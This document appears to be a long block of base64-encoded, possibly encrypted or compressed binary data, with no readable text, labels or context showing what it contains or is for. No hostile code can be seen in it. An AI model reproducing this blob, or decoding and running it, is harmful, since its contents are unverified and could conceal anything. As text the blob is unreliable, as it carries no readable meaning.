vTtCODC/Ey1X8NZRZTBBirEh2MjnTllp6mfNMpwjTrGUiBdgdgRRD4Hc8F3eRXHihzYMouregk8DBL1jhuAYL0pai8d8nxKpa3fK06Rv4rOkM6jK/hXVklD7MCNy9V6/Q5+Njm9HTTAdJusf6riW85RoNgeKG0kMdkBQ9njUDfZN8Zykq17ry6CSwkDwCgaJ9EhzU83t/thJX9DoTVmegEbJj0VsGkvC3+JnQ4fgu8huyFouZgPS4iwNYU7HeUqydH1/f5dLvevZi9FOsAUQRlIboXJEdmPKhWp7gqJh5rDrlsvPpggoQgl9c5m1y9oGPApy5eOhVizs0vUosxd5Ayn44+EwtC+KMNzHGY9nAE5vYWkwzfqACtCVo6DaIrDiLPpfEQsBcqXOnGB1JFfcCTvR2hzY9RnirAJ2OHN+UnxTbd5P9DFaBLcvb09cmgra74FQTuruR0lSd9e2vZUIj9rxmkSkUBXIrUwqzjuU+2WvZDVBVCVVh/N9koiS9WmvRGfMBK0NNTlsGqUOoRFCVJb3KKi6sfyXwSLH3nUQHAqk+YKi2Bce2P6T9xMmOB9S1g6giWmrtEEnxOqyTiROuZEmhYOoy2InpGNlhz/S94I7IWnU5owkpwzd699lqB6pDBQC8IjXhI47RxoPaMgrTIcM0vft1QLi33H45GF/bnICMht5Avy7cIwZBEt7gkR+xTYtwawnCvv/Fyvhf2yKH8xPVe+rSwPbvScN6IxLo4Bfzbu+RU58t+fbNEkB+dXLfjF/wO1UdrxStAjKvO7H3k2p4DRX0HRZOM90Ef7e5WybFeKuPOQJOibRMNYt4YgCOMzd8T7TDPRCWppAmNoeqtmX0NHT0MzoLRg20CZUze7OLkAePIbOMmpce9dTUb28mzvOrKypyS1mWea04OWEhBhhovhDIoGEx9VtOEnZBLzusDf8j+0PQAZE995k/I6wwV81Tlk89vSNzzz8BnMZyXWc7xDD0v6Jj23hfFLRzjhvLSmmFtTppzUk46NV6slmIMjanLduNxklLVlRa4dj2K0LXiReC3PegppqKVduJEU1Pt4CKGD11cc/domE6yNW3A6dj5Xo4WrmZO3Bm0MAG/8gYBC3BkM4HWrAFQ4yHpv6+wWWZtRtlo7XDDhwhT1LANj7mxE518Ewq+72uZpuBjSfl2IpoCFlqSu3PVEBpuvPQd4KHx9Rau/AL7g48S/rFjcIqfQoIZ7oB2gXvHjzK33+7L02LXVToBMQesLeEdiSZbnSpMfhmw+54nZrI1y3EI3oa0/yktgBmdabYKn7k+dlSIYmoapjwtLX0JHE6AqF5y8i639Atdel+r/IJ7CcEoZaQxxvOtXaI8LxFSDfK8ODmeXzM5Qvld1SYlUBaBFRa6cGbBV2GXwNf61nWyHzxJMgUYOR5QvLA2c0AdXk6dRcVc1i65T5/OU86LMq9tmwKSwKAgxwe96a8OXlG6SwsMrzV0JtMXwwVHWsHFmkiIoUo1S+NVJ9AFHkeVvOeEiaGmNf3oXkQg3oOMSBmMkccRhFt8UZKVwpzTsxlCof+BjlEKxJal28VrQZggkLF4tFLL0tHRQFJgL3A4O7QDzONX2JZ1wFdw1W60WUbVNSY2ib8TVDdsopLY2muavkS1ln+2kvblmH+o1ygZtEoId6CFOf8CIaYKfZsqvsGOdpyI9JOlh4GFZrTu+XTPVGbZw+V3o57cvF8XMUx9rXciFBGJa7KuW63gmIJXodb4NBV8a51IC/vsej0Vj1stp8Zaq0SGwVh60Mdc52XTfIs7Cx6/R+Lf/EZDStZA52wi8r1Rj1cJNBuF/mPsomGScqyxaGdvOud5PLMdalPGK04NkEo7vma6Zd0Ae1NH1mDhq0HdUIZXvGLgc8vbuo0NhRmaqBjnqT2VdIB9C9vQg6NPNj40uS1/kzcR+zPSK72z/pisSIy586RZuGeIEfqGxEy3DXyZZ+2ulKwjknCBxL6Bd1W1fxw1yaoHL2Ium236aCtd2R7qsidlLPX+geI1qh6/tzEE2Wo624ts3Z6fKsrBSehKLxkkiczTiQUSDhNkI2KkH7WZGMjphDcol3rQ0RF8Gkegd7k94nl+6BsnzNSVGBztUJrGumqR8trMS6xmYznWtZGAH9wUIj3kVyNbSXcAhXBfIX/TCnBmUT+JaHEwMFodgr6ErHVKXYrGdY1fwKzm35eUmF26I+XCMa+wNuslLgrqYhIayVEwjJP/xOMHJs8EZalbbNHmv6mbtoovNPluZ7cZ5L3ONh6UgA2zQvpHDixWDs2K9XsTkvkC1cykZaPn+MGRJAVCdkFXGimKdmOrwFjXf7kjC2aTtri9zLOI2NXJl0BcQq1HILarjQd0q2PP0GZV1R1wmmxeXcm91L2LEkyKc+cuQ7bD0k1LVAv9aEoV1xMGIxr6Sjq9ApSVVy+gE0AstexfUeZGWXLq7sdcIPNoRS/i5AoGDie4jm4i7f/Jt42Hilu18hKJxImeYc+rbUuEwmGnqrkm6wNesPeAHOlVVCs3E4B+RxOH+Imj8H/RSD/8d8eeJX8k/5KfR0iN8ObWqjA+Dit3i17wCtWfvzDS83WGJcwTIlDfRcMMZ2uGeXVgTxxoXVPNlov8dgErhfFV4ILUeEX0GHHTTQuo1elsTcd/c6RpOcrWQUlAVL9dJcsHgExE3Why+J65qoVVC09FRtFcBQzOVjGp/gUqwOoAfgxFK9y6hs0Lyxqt1/AimVWdgmO1Ygq/C9/+QWoj67zs5ySTCrjadWiN/7nXbz6mVrTSvoGYIwD58y+B4p7yTt24JBfOpAc3mLrFi7zIwDt8K1dGC+V/h1JVOKGtRnIpZTsqqj9w85HSPRr5ITPuj2vfdBG3beOI0YBmjgMyCeTt7uAKy/eG6jf4Y6gIiljT/LG1pwpzNvoigfCtRv1WMhU37rcWdTFmbMF0ydMP84jxE4MydNr9YEO1BZ3allXJckhECRpjwUetUbNYwk/uvt55CWPTWxjHrQxXt8ogL38JtnhssD5lMrB154MfEJO0GkM1hzG5kBZwv86jPyhq9utn9bd1a5EnuK6POo2cU5L1OzNfSSET0RpEpqIdHVjIPZOv5Q4E1+uNyS14Lk+vg6m4lI27mUxmSCuQ94dNSDhxI7E5rKUibH6FVnJmIYuQao7J2I0xBdGE26QsrnX9op3pYKaLM/Ip5CbLtkuLrFrjrJFPnGpWnI3IbTaq+comDyroY4tOnqPayOYQx3Fb90Tg0m6wtAPtEY61NP9SM/w5hPR/9v6FTLyud6C/L/PpZGtlbiL4/J6jYvcBrfle6AYyhBcxekxpGT0WiTyTr8xpHJ4uqUal0XGvr1UWOEy9MnKrZBL5g40rRRBsIDlSThgCNqOfE4Kx9GZRRg1r+kCPkEiALvPUA4gu1/Hnc8B6e4WdN0ocRXClbildtGYYZqs2dhmiGpyAiduq9T/ymDowmXuxl38dsn68gFdm0qnaihzNJkxdaFJQUJUD//6lyURUk/U7FmTfAI/3w56tVLuAh1NJbPhTkYtYD2m90ymh9KxPcCuR/iJb4SHvgO2StWP+3y5jT93M9TGmvhe8vkybohbo88AGoO1CQvhlJsVRil14VGkzQnWjPKYalHu9J90ADvTrUprsR8Lvqe4TH5TB/9+gjO/Z0OFRrSRv2laityaNr+aGemThvyte7HNNEXwhrHpkocQxwAX+b3bWnYGgf/bVZlxjwrFR8u76cKTztNWOuIE5C9efIK05oGw13WOCXOPOFub/e2dFRpWp8CKJoyvajYdiLH/Px/bEZXBDrlghm5OoJO82sfttByyorTBSOI8Be2GKSa7tbFem5nCeHzWn9lKMUvNxF/bQyzebTX5QQ4+wEfNlQvGEkY4EHk4EOPMCWACZGsuzbi1zGtgsscNdYaawJcTB5kyOPkW43OKYoFpZsSh4skBcBozt4z469ODDspBFBJmqEs0vvX51ciGtPvOIcJi+nPNrz894X1LreZSEKheU67XDYB/T0xyHXTHaVtwoqP3MCxBXrTCETcrA+9vu3/SKVzSXcooS8yY5qYGqVFCpMoADX94b+CWgAFj6N083qfebWrhAw8Jk4mHK/L23fbmvVNo8k0Rt6S1mtJkFy70q/zYaF+PlLL8HpjmMElADmK1koP7NIDA+B7SXek4bt3GV8fLRxc0rd8UwrcIwntuuTOtG+3tSH8abnHAqL8fFZ3t5JmhpRecEXqguo0VJc260kHGyuICKfzx5uBkvmpYgadG64pNH+eqjb3YADDxHaY3TO0+jICXdulzsW+c1qOvaJbQY3wY29jNqS1lyA/+orXhRmpUF42DRSfYESWM1hurG1gKbuU6Ep/31hh18iIDqw15C3O4eD/JYqvgmtdI0wqima7nbUa/wYcVYdA4uA8n8yfh2nnvckr7TWQARIJ0otuSezgF0zrXzDp7nvYIrqLDaMeiRWP2/m8OVa2WsT2FXGun4XN6arxPuw0A+s9RQnAzg7vX5V+2vhYwyX6WO0jAWOuFrjvm/pFL+O7ROEWc5ffFztkBBOf0SJr6eJLBvruMOTh9RYtZTBQFOG6TvR2HiaSxzIiwX5pCLQt0dnptYFxVIjE5PvK5TLkyRJotBayqnULFiaXrOMWZJkmlwUGTONX1A+imhh+oftMqvgzRbUIp+d2Q/djKr7WYx3iVL21pGnWPcDG5Wy+2Lj7nzpOCwogFlhIqtY31OjwS95P9w9Ief0jv7z49Z/ZqTBfPsVMj1yfOgqyzlN9qr+vogzcClpmP0+TKchesgOFO0mupFWI/lP38h5Pp5yXJNOWH3cLT84giTO38MlTYdFHSyv+Vv7JnRco3ln+FzWAqKaOs3VskKUCiR+5Oy0+L//tm/STAXYSSc6cxRltEgNcD3zRc4IAlR/RHBrR7qglaxHiyscO6Q0RLHgnuz/2LB+G+5qbo/mrHZvtqE9NxfFI+AkgLVVfyy/70RMCmATqyNj/eYfwPdNXg0lfE0xpngNQy7XOrHzu8f7/NBUl1K+ugpgmoZBW3mSsVf9JS5ut43Mc0Eijz6phIMO7lCSsB32JIoiMKLZaK8PO6QBaEaZuHSJjmSyDpY2/lvCMG+x5gfY2W9wiitHlYuyOT7q6Sm/q3QkgltXPH0/kjCc14/kOKL4YNLuk+PcRNYBYwEznsKu8V9/xy7sSfZOdftVTb39YPfTBX9tUBHoelpN4vWJEFjZ06R9YevPsveaznV0w3SuqQbqebYxb19I6F9RoTPDYdSSasc14Fn0pssN3OC3hrc/mufl14FEUoBp8RwqGxn+oJ6bSII2TJPdvtDhEqSi3o0OUtrjqyHbpaJd2JfVq04+l6Dnb9mbG4EMAtiFzWyCWo6EVJXjThPDHR2aFfIvhCUHxkFPm8EMX1emw3Zgj2BZCf11PyO9clmdHkcxpRtBvcstwuJb5O+GRrHd9tdHCCvhYfRpVy5xQX33u47avk/XXscvkVrGs1CJqJeFb96K+bBDf4DVgTzfzNFtHVRMGKeZwMdZwVO5h48dxDGLroLi9rhVbXE7z13+gvFsXQo0RzWzXgbqODi1Utou4vadNV21RlmsBTzowNccyuWAdV8NX4OMlOW1N+f+0PlrhtiPzbhedcVt665xcFFKLMaFm7nU2VLb6ln5H2a3ITxeaiJ9WDSF/Gf2K5bryE5a5g3FyTBhBAQxOn44SASDuWvgCqSMykPntOTr2PheiiyDAoAK0TiHtcCX5H9s7q60TolWagksmcU9YkLogQiwtuUrnqMDBgyKpPIuk+9H80W1AU6513xrMUdcHPGrU5I41B1FdstrZk/NNEpzoLL441AyGcbfYScc85R57CraQ7XS5DiIPV5gAhTEIE6CP4kr7w0z0ICouGQp6SdVCWOUE7wCDSa7bO6MNN2TI07QLGgVE9I/TBYgF4OyyBEbN0ZVSnJo7QZwfLWQ23rSOFgq80AzG3mUMQ+jVbvr743fBwYB1joS1F1DMENQ1x4LFYROZVhrKaxS8abXh5lnrtBseyQHnWZXQIGYH5Q8nI+3SeD/+erV3lZewq2EwEGaDEfgoPh8u/SbFZDrt87SVvDyvwcWvFY9dM/oK2xzWFNGuT5s9gfECXXygoBw8rO1mMpK2mAT3iC7rjsipzIFxLCGQdT6qaY6+ZqB4LT8WZFGbGiPmk7xkr08NlVQQMs1kI/HGXHG6Pu18LVzxIo6xz+n8ivzqlrFB6D0ZfRgnFF0sCkp5ALLEZ24FnN/LXz5Fzb2ltVuIbBgSvDvzbTOpUrWi0UifbmJziAH1LSnLKuEl4bMbTbwHRu3biEwsEgyqY5WfYtIsPaRxS5sLNufsnrFVaLA89wxFmQflgQ7JkvHUsb/EyM0dFKwGB2gVlw8vbSzu2H9WWa4+dkLDOvd6JbHx4/Dmf2BwRKyuvj/R7+NyQ+E8wZjAsXLJKuJ1h4g145fIjwai9e7vfwEJWfd90C+E3ZEt9kxwToBq2gJ7QQMgMUdIPqRXS0RHpAbbJ7HBatZQFCJSFIQVyXgcSGhpaT4lq+BqzcsSY43PCEv9CITTW0t1qpzczpaO1DImDtnzlKl62ya1Z9jr2AHU4/v1WBx9ihJWBJjCVROIaUtJnS2M0gN26YsWpL03qcc4UYSVV4BovUWp7djfZ+wM4ealgnh7E/OpXorix65n2x0ERCSg1dx/cOSoJ8j5UrQAh8pOAgoXzg7T0WNbpcSqiDUbZQ9UBlY7mrMysDfkfPEI8wXeUWxU8obsLxcH1nXyox16NgjcliaAVZgdHPNdvpcoJ/IvivODR1QrRaSabE60ppavyNgBTlut02oVhcd1vYaLun/SzkVo77/0SKFcNehibwNyfIfPntHYf5oje1lfnEImx1tsQuoaFYwKXxhf5oHIRvFUIn2wQLKUBs8x7xXaTA/VCAleugN0VexfdApcdvBrnfw1HSDQpHYDC3WH07Nt+wjFgvZ+lff4tvlqfRyqxgpLcL4tck2w+/aVFWmIHeniRlWAxW/iL57cR4K68JoU+6uEzEFo9vrKijrlPWqtBopVPGUdskSzPJHZnYbccGv1cCVjwDoJWLE8F0RrBOaZQY+9DhTO9UJgv/YOS6VTZei6NxoO57XTZRA5987BScTRWqE1sWEFfM/cq1XwJIK2Yzh17O52C+Vyd4fSZOxS2ClrX11Q7011bIT7afCkXmVLTdUtnUJ35IC2+Wt0KVMAVMraqzqTu8/drK+axSXINwv3mpgeEg9kKe/H1HHwxe/hpHaX6E/GgrUsXahZyZfOlxlXLbPyTZbfpQHyaKtixeFaPeD0aEwnhmHy+/fIcKqq/6SVn71eyL7ml6tclY9lfTZfDit8rEpW6v3IUbaQvDL/RkTxxs/wT+dc1SIS1/EeygcCXzn3Rh5cfZCDdeLPufSFLV+JjFAl9EnUDqkURMAhmmqhMgQe5EdDPB5G3vlBVUEbS5ef1Kk4C12dxvbE464SnF5SwWqV+XZXvzw3BsNwPxhDamBUB4sY6Gd9lREdnf2hhaota5z0jTb+y3W8bW2WAZxomPuxYUku95nHeIXFG28jTJ6GYO0uw0wIQyzUaitGEkvgIIP9m4Ndtdf4jveSjKvf62DgM9Xdhi8AJuHIhw1+bKHThs69L25/2GG6SlFj5QS+D2Itt/Z3dtMs2g+6H/8jDaggdOH308wkKn8zOChxRySk8kx8plJmBACQjDCxK44xvk0exROQiTH1bv8wVJ1/WBuD/3PBTDOzk3ttACOU6XeE8NJ2TQvmuq8KZs9TvhRpu7JYABkbfGCdN+4YO7dfKUCPFpXl8gynwEdQJtwEtuD3X88R7nEoWyYBNoYIGaRANUUzvIzQv0ueWGReo9IjWfCHHlrhasH3AnD0Yfazlm1taEcq8b98q0iYzlSWRPYzgtBK/U8a2zd/ke+nZlyJxrCqyM77n9xFrc6kjPsM9P0TqUrcSKxAJDDz8ztghd0e3IXWSFSwPOYo5ROPjoNgG1xHQYc5wHBXiSMnHT57Tfum4uAHVoJ8yEEBmP5eaHTuJ79W7xKfvDWNGcAN300o46YbRyRNwYjxj4eMqTAhqLeIbDErEF/BBQj3RM0UZE0L6+67FRUH3rBrfabzAOHB0hc7RPqysAYwFfwFCXLP10PrSJTRkP97368Yk9iNf6vhIwMBG/fmsBtfRfVCsvLt2AJbb9app7JCj32/dxdmHN2fUgt0NgSUgBoujhRJPphNR+FHx8EVdszvEk/Jj7UCSIJ9vFtBAC7tgZf27yqwwMUC/kQDUTCOynVvxlXrC5Fjgo1qDVpluxC2BX+b1tEBBP3pOptEBsyoojApfut4Q5UgvFaxQn8gV2/BR9QOD5QIy2zwE6d394/YVHKuPag6rzjmLyTFwiOC+c05bt81uHirCgVxOjz7Tzb8F5Jm/leJy0MJw6vBZ79ctGMcoFm9v6e5es8VFmbcqLYa/oUroRLGW5gyY/FwFlUuSWsi/FbfY1A2k7fasznr3KkXzxEKh1/+5k/CiP5yDDGTamq9lFI9lRR9TQrPNh7HdT0nrnIJHrutvGuf6QEpavECUxGTS8Sjc9jmji0zIJBvZPK0XTAOf0D2ssHE8kXF/WYCInmXnLYQ2Pw9m8kAAvL0x2DOoocQ3R2fDC2HPM/FE58gzILrFBIvJtLyLb1cymR91wCg4K2MOT2XBcoDoPunD8Rz5cX1SE+AWtPC9xWdUuHfgM/2IXPqne0++LOVcOrXEu8B6TndUvxpSwBHmsJAjaeu8T3YT8QIKvDM6WyDUudhL7MAUjlM0IV0BC2MrgMGH/A1jp1xdDPCN5cJaYZpZof0hvMlP2Un+9nQp5av5A0qHE6/TZ8sa5EpX3HcxoSNCs03w5CIugCytk53g5WFhYxD8XaZqnSsCoY3wCrdJA0bjSQxpXM4APu6bHKBTJoxdS6m6s1/veoqDcf25fYPo7TkOquIyBknoyd3K9p9WGszDKUaZsFxJkXLNJxoiC/y/6UnJy0d56mWcRKpev3f1qj5EclBcUoPsA8cPfA9IMROeXwSZJBXuFL9YWpbdPx3bQoH7BR6PZUC8EiNqwpHQjRk9y/zcQ5p8+XyYRwpKy2WsSKiKcfYw3CvNl2wAt1gtteI0knI1ihbCl0WOwkUoJBz+BhZbHoghT8cMCsj9WU4F2i1v7yHUfmVEkSTtS2bac39lPMqIrIhrB+LafdYqA+M02u18vHzXGyya50hRbBUkzwEMMobh66vLo1nEfIBMW7Mq1TZH/UMokGWA4rt4aJvOxUKUPYC3/o9hk/pBlj1PKjV9pLDBmDzSBZvZCMykAu1DZAGzEHo+8uXn9mho05/OUPUe6UjahtV0sw5AjLYoAMoz5VbOaSypA58Q92YQE4P10YQTDICYSHNBIAJ7BM5ijZi/g8+Aj2htkvTaXwA18fRDmkAbfxJ8+igZXpHVJBJZhXW42HGRg9YLP5hCyVtzqIS7kyVXaMwGQdRwzIl4JNBr9Egn5+mzl8aWEtPM6CPRWHmhrvMwFQ57ToyG2OMW50ESKVxDmVOekG65m6nYEQukbAa35Pc0wpxzUJjVM12oQnIQO0KaO7FweLHlt3PsLOEaDvdHYWvIQ3wMNdHoqSz194txmtBOyT5yTnJoI0MM0LwMx08W3Nl6VYKpAaVI/O7c/6qfXKKPy/+Md9CHA6pmdJ0Nz72rRaG97Vo9sDYl8GkQX+mR+x2jpucX2JS3tENY7naYNl2E+XOU893Ac1NGznhCxrUHp+0aO3IGBID/FnfHtPeBK1tKVueRyn7kePESzqSJbocgLEPwf7P28Z5h4L++Jq6Cw2FJ4rDFlX9ypiJoqX1+/PP0HRWJpAnxCYwkGMrIrwzwj5tnbdldc31BDF+cAoF24M8g9GvF5sCP+CYY0qvZCglky+Kr9as2SNJlU5rLuXiyEUWaEKXC5GIDXchDhpzxkVQliq7J3omJk/niA7n2941xBryJd1vjYNouzz4wKxX9+XeuQ+4mG72CzVYH7oCSFLAdCDiXUJrP+zXbAEjye+hlSbB04tg24dZbWaG0ob88SALE9+RCNlTV+yg3dryBOq68kOKhxKXsV09R3AYCGuXBwFwc/uxFRCkBtxIMrarc3gsLPKsS+XKHn+kA/ZR8l3/nABxTDeIB+zK/+PCpf/rqsJ3mIsH+3GXUxiA+hCQIYghf6/fbwUFt2zmvGhJ8Mv8Ss7KvBtzdp78QRFgv+29k5RT289CjAo7U1gomxe28O989Psg4dBg6q6/su73a6rFssif5iZqfkZr3Js7Vd5shK7pnxfJyoR9DJRY9s1M6k6LHXLHICaoHFOQHMQysIVf4GQw6fsDSZ/+/B+GVR/Fv4J8qDXvgvt2LbnGpH20dxOuGoA8MRRhiShAXhjiBJgNegJq2cLGWdbje6oig0i3XzgbC0FOxjMcKHBPSyMAIWYfXWMq+936pztmzrR6BoXqFvMmCEHBxDdauSoKo/4vBxlQZpp+wwPNUgL16HpHRbXEgq26JazNh0Yoh4lyZAd3kSG2GKYFkh2JNSmN82+NgH150pgUpRqFrmSDVV5TGUTX1lpJ7nVAG8bahKFxPlkGucE0DZfQz8vCwtuu8asXdsrPoczfqQ3R+BsMSk9a4wLjhBB9YI0fz+69Fp9s77nVNgF8UUomgSzbia6YCVye4zm8N92ga+tmXwqUg/8HJ7PYbq6OA4VrgPGotVI9XRYWfTsY3dhHJK9Rxt90zgVq+J8PlbfzrV73bMLMNk7nM5IY6Dky8Wtst0wLjUMNfoxZAAu/I9XwJ7z+4FJUPKElP2R6mkdqyAPirlb0+Uz9NniszLx2h8LVfs5Hq6tvmgzWCvkORxngebHbX1VtYZZzw08Jy4biiJN5QUmWRHwmneugT/N3OjqnW7Nr5OH6tp6WY7eupda/lmewlZFAWU1/4wJ6WlM2dn769XqmbJA8JvNCgRd45GjHwC/pFxqgLTqkUV4OMJdvQOrGGuOWkSfv/qUJj1MNM91vLDzkcM9HiKwugUqXoxougP9lsP9j0iOX265bL7KM0fSIojDC6VBlqEDT89sG4tC6svxMlGWZPV7OA2maxIQiMU/ciQXI8stnqOooeZuhXAK7KJ0DdhgwP4JtbzeE5WGdwRS5f47SvBaJ1qI7lXPYdm6rFUfQwAbtFPB2WlT4r2WpO2uUH8rW4huYNVfUUjnRL3qZ1qBcDFL/WWxjMCZPoSo5QAGP/qdmBDooVwXEXIHObApAx+CnQYSRpriMY9NfeA7zx0qCUl6q7+l1vnMBLV9MxTE+OX0F20d9yCQTeA0AFCxy2kV6u+IPkoBlT3gM6irMNhk8eWq4Glm1BX59Xdw+jTl4NnBD8dY6HhpT7At2Le2PGpzZ/l/UBsZQl2bgBXScCBT0Fwa37lq1xSTFlZ0tVF/2p/XRf3BwlHIuY+oPREINfqSaH8J7CIuyjGgG8usSxcrpYM/scKbM6595dGNQ6pmAxq4AK+8/NSoUL4XTRBIXbxzx77J41BIoCMQKRWvO/NTwtZ0TI5ZBabDBJzaSuLzC3606BfyJzwPnQDxMf/LETg56XEAxEh8fKeG59W0TeB23SoCSA10sP5BDnwDzyA3iY3cwheJnvM8nMF54/6Qeqbxe/9KzXIG8OvhVXik/DwMJIpapThdSfUlavWwQNEH+El3h8OLh3h4zKeVpscsZzVxNABf5sikbsIt6I9fK7hurEZPNS1Y2tPJBF0OCLTCQ+vqGLQ5qkiZMQBdzMwVpRjP4QxXDmyhHwKNgJSamn8H4F/00czfDfL0kSAL1AhVl9+dNNJ17A+qDl68NMTX9Y8j3Xpgtxbta8l0GCPJG7qu/UzSyAnmTmeIN+EgBS7PzzEffahKf7mi7UHB9IZotitwj76UUIUr37W70JQ+wDJWmjVSCWW241C+UgaksB5ybqM09MAf+TKMjxoFMpMePcmARkiaycMoWVxLREWV4ikILl1359tP0klAvaxJi4GO8W8xpBTL7bkbRQTCwaUPLyJvzHq3HJ6qd+dJN/vF0FLQtwwgNaKDrU9PiY64CFQOpPiuwM3X2nJMN95tbzL3GbYaIBHcA4h6NMfHaew0mMHjWHkiersfFXO3NxBaCFUxgUmN9BwNYGphdVgojjaLBV6Sfo81XDC9tbBMiqHr58xlyA8/bpLnE5UFF4JYbhO/BF4HRz+paSdk6fcukv+fNrDSTQPNGPxs/sXcIhfCXPxPB6N6xHpK/nE2U1rjnpHfjpBrpxLb5v4EPp4KZwbJAVBIdsMiT28v0DhVm+tdPXctK1CiRQ2GHKDPw45m6VV+8lE4fTK7HWmTSVw3NW3gsFcGaBfAv2LPbBjpsPJNPDB3E3KDDAWY+qrrUF8HHyBUCXwig3OuejtckgOLfah+VR/ZqbratfEQTQnccuHVEEgms8Czpngq2NnnSvhn90w1skXG6G0AGJYbjgYkoWvKdkvonmrHfhMm/ViwtuQc+raJAuMODUvMr7fFAoe5b+YOvOFMXFALzobT8IjgaA774vwynknxbTEkloHqkUzAUPXfVxJyPUoQVNn75OrVnaYqD60XPfUNrc4sHZsdubDwE2W+HPrJVhwM7+OeVu7jKF8Er7MMM2R1xJYz6ep6zW8VvGzd1dx1ux837WAu2bM2ze3teTo0BuRr6ORKhpRsIFRlO/N7R3yRFwk1oegjWSuNYcO2JVfz/M/+IJ81LoHsxfN4SdK19/vUTAvMtHPWwt1C39d6U3dxXWWFbWU8q9KGR0wX2HV0fIrOV0JSqM4FuuNzflWrRoQrOT4gTByHc23ja3hGk2f0NqINsBZhXh45QE1GnKLU1zpVbi3QwMfwn28mZ9Z1NfbyiWt1CuxC6QtjH8aP79ixs+V5Z6ufbXxWlH/KoMfGh7B04xQWLqTeZMdpwEd70ngL4q7STrf6KzjKIbF3dUEyT3GEzUiP2f3eyqBIbkhAZo9uvCGMKJ87MA5SNNEuz4vX5LznR39xS69E+LQLSfd+FFZldu1NEDi7hdF3BzGXrux0K4J6KX1AKcerjDbZSvi799TBxs7782lYgzUaw5QLljLFAdBMRfRp13pgv07UfKJCdPdRjp1HtGUqAo9ppw+C+dUgLGpADJ+mMRhwgh7L+Nj1SUrHXeVP8y2zkocw1mKL1Osogpv4EzQeiM8kYzr+MEQTZG/RAlUsQKUlNFVuHYQMLmCBzG/UzF+HsfOQ465/KwIRwhwJe4m4MfBahUGDM8zRgLo3KEb5/ve0qcw3O2bfhWzjnghLcZ7CibC8Pid5mjjsuQt7bU6lPxG6uAgBxcp0K4RDZJQSKDV8DGdGGHKvvabuz0geT2BIdjHd4nZXMfJmBE/En8xu5LO7itGZpHAQ/M2WaJwCp6vL5k6rRnD22KrgbgblUsNs2NLPGbuQsbqWRPIwi0bHwzHoIR4yndEDY8Xcia/ZTBHm+O/r8ifxWTXv3W66Qbx9suCiCSevQzxgGlss0TDEcZ+MC3v5K82NXKGpSgPaAfzC7fVnb05Bnc3tl2QHf6eroQe5AMl2YTWsaEOyhWGSTUdKtvZVIhbgP43zLzDcUkzW0cljzgU4Kx/EzUx8jzZXjXmPUuuLMZXwl4qfy3jJH/3bXWAgyNh/KotqB9x1cRyQH666BEFn0CuT2JnmtW1lx1bpPW2fb0B2ml+8AzOKE4LXAf0lZMOruoxMVBG2RU0nbQACq6p0r++X6hyr74yHknjrHl/mxqm4IYFfTlHlB1G9yHTrARYfDHZVzaW/PrzQv3rqJKtf4WhmpWQL+YDcbbh1a2nQw1fEkFXKdmgoSoRhuZiML2ApYIlGBX3qsJxujBeWfvlcPoN3r1V8Df8K8exg7Xebk2qKX+Vggl3UBUYcZEPVyM3srLy2ZaATudLq+xbFh7Oi81xpSTeAmVvvnh5Wq0Bn4cUOMT9bnm9lyyl1iNXnFSCq3KB+Kh/tnIUrL9kV/e0icA6yyyQKG/lmYskMGhxdYWwNhGZ9Uz6UubmK5m/PMFVorIlexC+OTZwsYk43AasgLKubcG3+/3pl+3G8wg8mjQLaCkurqUr1WGJcsJb4AkPBZ/qf5Os24Fxtb7sfe3X/O/stVLQy1K0jhIYmkje2JDrSBqGFb/muJIFmcZnjlp5VClxDdTabTiTv4+85ad1s0hRMdqSoJDcthkrMWGPk3bt3S/PcMmynD4iRLP+uaMbA9FIwknNsdLJ6im+/4gmCrNEHt20hTfZhnME2xPNH8cyJS09tOxH98Sh//rq1V4y7BQgz//CbBIbbq5GN4iCvKoQQ5V51apZCHJN8mGzsjjjRvl2GciUXtgtwpiNNDVt3LrzgOZqOjPoDNfyxX9FWxpLGZ2GyTBC/ZC3GFAANNuf5xPlWYkDNt/z5t6lG96rb2PPdWOJj90tQjyaJnFAxPKiKAJWzD6jy/+e2WFv09X7e9ci+mPbhPtPHuhqsmC0JEK/64HTWeb0wHFOsDlUPHkpByeOkTPnCygZbnCrC6UjsOw+G72PzYkzl8JpA9XD18Nh/kPVdBBb0L+0R2ZMJcilmHkCwo2m/SrY3nNPLcYVlY6fB8+JMOef41USamUxaDlS26QbnJ1XhZKHv9kMPnfz79y50PkCnesoC1G6142rXK8SDgNJ/OWDfnPd8Byee/Wh3x3siPHZnWE+qmGdHwdoxG67A4Plgz/xuDeDwI3b4bCyXYCD8+cHAiMmwq0v4y3vanY9m2Z9UO2h0jkLiLPIrR9C2/Tfheotp8BBq1tn4BWJ5ZfvC+Jbea8gcIlwhZE8Yiob8GN/hlMDr/n3dyfJuDUzwdQcMb6OPeAaHNZgwBOiF/h/NWDzBmabl2nnhrfA6Mo5Mh4TeTOnF88bQkp0Q3iMP9Ro8VLXgQ/xyeafUgopoEZWC52WiBav2lI4CJ+aegY6ROPEZNasJg0r3IuJTevSDuCu45wPmT4znZoD9BoxLKWO4pgMTb/2v+xJeu+T/AhR6ZeDOc9E32Gwod7GHoknM6suD1c/620VdjbrWYZV6i9TqpYKDp9LJbRLx8UYCsHH2ixMMhy1NCQuGy6QH2GJLVirIw/CNQZzzf/2bEZhkyDFsBJCcJXqT3GtbwARpcXJaYh4MmrnEZt/JSLdj5bbGZ4bU5+6YEYXnuBNlGZQO7o/1pOIglV6COG3iBDsum/LnuOooQyOalTABD98LFgFSz0NMKyloijJfIQoS+GUL7M97R91PovUmbxrmCUFInLilfJl/T6RbRwiKJIjWFOjmvG9PLLrbiFAvT3MbceLqsz/cyPY1VDB2WSBQsUajwxD2uHYT7WdB1uRejOtqoUFYfNI7+KKJJg4WJ8PIw6xFVhbCybe2DAWllaRDMvKKDZaSFWqaGSPvnryLKsk54vP3kcMDTCneI94GlRnRQyBca90ouKMTv5oUgDMvGD/cJYNHTKQPc1H3G+guOEYZUQGij+hic/mvLxo0jEh1lALP0Pj7cmWpKq1B8slE2JbTHqaKKRq+w5t/lRJU35boKM9GRkuMROJfLdnqhXHyb44VNQ7Zq6W0T001j0y+AUq2nzBlPQVZLwnfBGauhyM1abSZd78fhQ/mojwruP8TTZU10cZWUd8GWOaexp1/51+kxibsHBo45quYwHHVrvo+Oam5RDdCyeN67KFv4kJeIXsVwlipff3TMmQp8bomwdwy4mq/wc7QfzJ/bXuPUuhMR+SJW8/wDBmAEP+4+SDmnAP648NLWfGJUjok/lB+EGOrgGdSrYTruS80sI389HQv2oPARQr86rQ3Fc9H3q61vOXMDmCjeoWIjiJ+qQtgmbpAKJmOMn1iBjmx2mbcy1dCW/hGtcuUUyl3hMU+